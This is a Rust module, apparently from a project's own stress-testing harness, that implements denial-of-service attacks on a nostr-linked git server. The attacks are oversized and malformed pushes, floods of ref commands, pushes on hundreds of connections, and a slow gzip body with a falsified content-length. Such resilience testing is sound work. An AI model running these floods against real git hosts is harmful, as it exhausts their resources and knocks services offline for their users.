//! Attacks by pushes that anybody may make: commits of PRs, to the victim's repository or to his own.

use nostr::key::Keys;

use crate::clients::nostr::now;
use crate::clients::nostr::sign;
use crate::clients::nostr::tag;
use crate::load::noise::noise;
use crate::siege::attack::Assault;
use crate::siege::attack::Attack;
use crate::siege::attack::BOTH;
use crate::siege::attack::PAUSE;
use crate::siege::attack::Route;
use crate::siege::attack::side_by_side;
use crate::siege::attacker::Attacker;
use crate::siege::attacker::Command;
use crate::siege::attacker::Request;
use crate::siege::attacker::push_body;
use crate::siege::attacks::http::gzip;
use crate::siege::attacks::http::in_turn;
use crate::siege::own_repository::OwnRepository;
use crate::siege::own_repository::address_of;
use crate::siege::own_repository::random_id;
use crate::siege::websocket::send_all;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "uninstallable-pr",
        does: "a PR whose commit cannot be installed in the victim's repository: it is larger than one push may be",
        costs: "40 MB, and then 1 KB",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(uninstallable(attacker)),
    },
    Attack {
        name: "staged-refs",
        does: "pushes of 5 MB with 32 `refs/nostr/*` each to the victim's repository",
        costs: "5 MB a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(staged_refs(attacker)),
    },
    Attack {
        name: "placeholders",
        does: "small pushes with 32 `refs/nostr/*` each to the victim's repository, whose events never come",
        costs: "3 KB a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(placeholders(attacker)),
    },
    Attack {
        name: "many-commands",
        does: "pushes of 20,000 commands and no pack, four at a time",
        costs: "2 MB a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(many_commands(attacker)),
    },
    Attack {
        name: "pushes-of-nothing",
        does: "pushes to the victim's repository that delete a branch that is not there, on 200 connections",
        costs: "200 bytes a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(pushes_of_nothing(attacker)),
    },
    Attack {
        name: "parts-of-much",
        does: "asks for the refs to push of a repository that keeps a part of a state of 3,800 branches, four at a time",
        costs: "one push, and then 100 bytes a request",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(parts_of_much(attacker)),
    },
    Attack {
        name: "long-lists",
        does: "pushes of 20,000 commands with long names as gzip, which do not end, on 300 connections by a proxy",
        costs: "100 KB a push, and then a byte a second",
        worlds: BOTH,
        route: Route::TrustedProxy,
        prepare: |attacker| Box::pin(long_lists(attacker)),
    },
    Attack {
        name: "bad-packs",
        does: "pushes of packs that end in noise, four at a time",
        costs: "1 MB a push",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(bad_packs(attacker)),
    },
];

/// A commit that no reference of the server has, and its pack.
async fn stray_commit(attacker: &Attacker, content: &[u8]) -> (String, Vec<u8>) {
    let own = OwnRepository::new(attacker, "stray").await;
    let commit = own.git.commit_file("file", content).await;
    let pack = own.pack(&format!("{commit}\n"), "").await;
    (commit, pack)
}

async fn uninstallable(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, &attacker.victim.identifier()).await;
    own.announce(&attacker, now() - 100, &[]).await;
    let first = own.git.commit_file("first", &noise(2, 20 << 20)).await;
    own.push(&attacker, &[("refs/heads/main", &first)], None, now() - 100)
        .await;
    let second = own.git.commit_file("second", &noise(3, 20 << 20)).await;
    own.push(&attacker, &[("refs/heads/main", &second)], Some(&first), now() - 90)
        .await;
    let third = own.git.commit("third").await;
    let pack = own.pack(&format!("{third}\n^{second}\n"), "--thin").await;
    Box::pin(async move {
        let author = Keys::generate();
        for number in 0.. {
            let tags = [
                address_of(&attacker.victim.coordinate),
                address_of(&own.repository.coordinate()),
                tag(&["c", &third]),
            ];
            let pull_request = sign(&author, 1618, now() - number, &tags);
            let command = Command::pull_request(&pull_request.id.to_hex(), &third);
            attacker.push(&own.path(), &[command], &pack).await;
            send_all(&attacker, &[pull_request]).await;
            tokio::time::sleep(PAUSE).await;
        }
    })
}

async fn staged_refs(attacker: Attacker) -> Assault {
    let (commit, pack) = stray_commit(&attacker, &noise(4, 5 << 20)).await;
    pushes(attacker, 1, commit, pack)
}

async fn placeholders(attacker: Attacker) -> Assault {
    let (commit, pack) = stray_commit(&attacker, b"small").await;
    pushes(attacker, 4, commit, pack)
}

/// Pushes a commit to the victim's repository, under 32 names each time.
fn pushes(attacker: Attacker, lanes: usize, commit: String, pack: Vec<u8>) -> Assault {
    Box::pin(async move {
        side_by_side(lanes, |_| {
            let (attacker, commit, pack) = (attacker.clone(), commit.clone(), pack.clone());
            async move {
                loop {
                    let commands: Vec<_> = (0..32).map(|_| Command::pull_request(&random_id(), &commit)).collect();
                    attacker.push(&attacker.victim.path, &commands, &pack).await;
                    tokio::time::sleep(PAUSE).await;
                }
            }
        })
        .await;
    })
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn many_commands(attacker: Attacker) -> Assault {
    let commands: Vec<_> = (0..20_000)
        .map(|number| Command::update(None, &format!("{number:040x}"), &format!("refs/heads/b{number}")))
        .collect();
    Box::pin(async move {
        side_by_side(4, |_| {
            let (attacker, commands) = (attacker.clone(), commands.clone());
            async move {
                loop {
                    attacker.push(&attacker.victim.path, &commands, b"").await;
                    tokio::time::sleep(PAUSE).await;
                }
            }
        })
        .await;
    })
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn pushes_of_nothing(attacker: Attacker) -> Assault {
    let nothing = Command::update(None, &"0".repeat(40), "refs/heads/there-is-none");
    let body = push_body(&[nothing], b"");
    let request = Request::service(&attacker.victim.path, "git-receive-pack", "", body);
    in_turn(attacker, 200, vec![request])
}

async fn parts_of_much(attacker: Attacker) -> Assault {
    let own = OwnRepository::new(&attacker, "parts").await;
    own.announce(&attacker, now() - 100, &[]).await;
    let commit = own.git.commit("one").await;
    let others: Vec<_> = (1..3_800)
        .map(|number| (format!("refs/heads/{number}"), random_id()[..40].to_owned()))
        .collect();
    let refs = others.iter().map(|(name, oid)| (name.as_str(), oid.as_str()));
    let refs: Vec<_> = refs.chain([("refs/heads/main", commit.as_str())]).collect();
    send_all(&attacker, &[own.repository.state(now() - 100, &refs)]).await;
    let pack = own.pack(&format!("{commit}\n"), "").await;
    let part = Command::update(None, &commit, "refs/heads/main");
    let answer = attacker.push(&own.path(), &[part], &pack).await;
    assert!(answer.is_some_and(|answer| answer.contains("ok refs/heads/main")));
    let request = Request::get(&format!("{}/info/refs?service=git-receive-pack", own.path()));
    in_turn(attacker, 4, vec![request])
}

async fn long_lists(attacker: Attacker) -> Assault {
    let name = "long/".repeat(20);
    let commands: Vec<_> = (0..20_000)
        .map(|number| Command::update(None, &format!("{number:040x}"), &format!("refs/heads/{name}{number}")))
        .collect();
    let body = gzip(&push_body(&commands, b"")).await;
    let length = body.len();
    let mut request = Request::service(
        &attacker.victim.path,
        "git-receive-pack",
        "content-encoding: gzip\r\n",
        body,
    );
    let told = format!("content-length: {length}\r\n");
    request.fields = request
        .fields
        .replace(&told, &format!("content-length: {}\r\n", length + 1000));
    Box::pin(async move {
        side_by_side(300, |_| {
            let (attacker, request) = (attacker.clone(), request.clone());
            async move {
                loop {
                    if let Some(mut socket) = attacker.begin(None, &request).await {
                        while attacker.write(&mut socket, b"x").await.is_some() {
                            tokio::time::sleep(5 * PAUSE).await;
                        }
                        attacker.effort.answered("cut off");
                    }
                    tokio::time::sleep(PAUSE).await;
                }
            }
        })
        .await;
    })
}

async fn bad_packs(attacker: Attacker) -> Assault {
    let (commit, mut pack) = stray_commit(&attacker, &noise(5, 1 << 20)).await;
    let half = pack.len() / 2;
    pack.truncate(half);
    pack.extend(noise(6, 20_000));
    pushes(attacker, 4, commit, pack)
}
